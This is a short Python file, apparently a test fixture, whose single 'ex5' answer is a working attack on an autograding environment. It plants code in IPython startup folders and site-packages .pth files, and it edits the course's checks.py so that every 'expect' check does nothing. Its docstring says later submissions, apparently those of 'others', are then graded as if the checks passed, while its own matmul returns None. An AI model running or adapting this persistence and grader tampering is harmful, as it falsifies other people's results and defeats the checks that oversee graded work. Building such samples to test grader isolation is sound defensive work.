"""Leaves code where the next kernel would run it: start-up files, .pth files, compiled modules.

The next submission is graded as if nothing had been there.
"""

AIM = "others"
ANSWERS = {
    "ex5": """
import os
import site
import sys
from pathlib import Path

import course_utils

code = "from course_utils import checks; checks.expect = lambda *a, **k: None"
places = [
    Path.home() / ".ipython/profile_default/startup/left-behind-by-an-attack.py",
    Path("@HOME@/.ipython/profile_default/startup/left-behind-by-an-attack.py"),
    *(Path(p) / "left-behind-by-an-attack.pth" for p in site.getsitepackages()),
    Path(site.getusersitepackages()) / "left-behind-by-an-attack.pth",
    Path(sys.prefix, "etc/ipython/left-behind-by-an-attack.py"),
]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("import " + code)
    except OSError:
        pass
try:
    path = Path(course_utils.__file__).parent / "checks.py"
    text = path.read_text()
    path.write_text(text + "\\nexpect = that = lambda *a, **k: None  # left-behind-by-an-attack\\n")
except OSError:
    pass


def matmul(a, b):
    return None
"""
}
